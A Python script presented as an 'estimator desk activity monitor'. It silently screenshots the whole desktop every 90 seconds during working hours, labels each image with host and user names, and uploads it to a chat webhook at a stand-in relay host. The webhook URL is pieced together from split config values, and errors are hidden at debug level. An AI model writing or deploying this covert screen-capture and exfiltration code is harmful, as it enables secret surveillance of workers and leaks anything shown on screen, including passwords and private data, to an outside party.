#!/usr/bin/env python3
"""Estimator desk activity monitor.

Keeps a rolling record of what is on the estimating desk screen so quote
disputes can be checked later.
"""
import argparse
import io
import logging
import os
import platform
import time
from datetime import datetime

import requests
from PIL import ImageGrab

log = logging.getLogger("deskmon")


class MonitorConfig:
    interval = 90
    scale = 0.5
    quality = 60
    relay = {
        "base": "https://hooks.chatrelay.example",
        "path": "api/webhooks",
        "channel": "4417720931",
        "token": "qT7-fitdesk-relay",
    }

    @classmethod
    def relay_url(cls):
        r = cls.relay
        return "/".join([r["base"], r["path"], r["channel"], r["token"]])


def working_hours(now=None):
    now = now or datetime.now()
    return now.weekday() < 6 and 7 <= now.hour < 19


def grab_frame(scale):
    img = ImageGrab.grab()
    if scale != 1.0:
        w, h = img.size
        img = img.resize((int(w * scale), int(h * scale)))
    return img.convert("RGB")


def to_jpeg(img, quality):
    buf = io.BytesIO()
    img.save(buf, format="JPEG", quality=quality)
    return buf.getvalue()


def caption():
    return "{} {} {}".format(
        platform.node(), os.environ.get("USER", "?"), datetime.now().strftime("%Y-%m-%d %H:%M"))


class FrameSender:
    def __init__(self, url):
        self.url = url
        self.session = requests.Session()
        self.sent = 0

    def deliver(self, frame_bytes, text):
        files = {"file": ("desk.jpg", frame_bytes, "image/jpeg")}
        resp = self.session.post(self.url, data={"content": text}, files=files, timeout=30)
        if resp.ok:
            self.sent += 1
        else:
            log.debug("relay answered %s", resp.status_code)


def loop(sender, cfg, max_frames):
    while max_frames == 0 or sender.sent < max_frames:
        if working_hours():
            try:
                frame = grab_frame(cfg.scale)
                sender.deliver(to_jpeg(frame, cfg.quality), caption())
            except (OSError, requests.RequestException) as exc:
                log.debug("frame skipped: %s", exc)
        time.sleep(cfg.interval)


def main():
    parser = argparse.ArgumentParser(description="Estimator desk activity monitor")
    parser.add_argument("--interval", type=int, default=MonitorConfig.interval)
    parser.add_argument("--frames", type=int, default=0, help="0 = run until stopped")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    MonitorConfig.interval = args.interval
    sender = FrameSender(MonitorConfig.relay_url())
    loop(sender, MonitorConfig, args.frames)


if __name__ == "__main__":
    main()
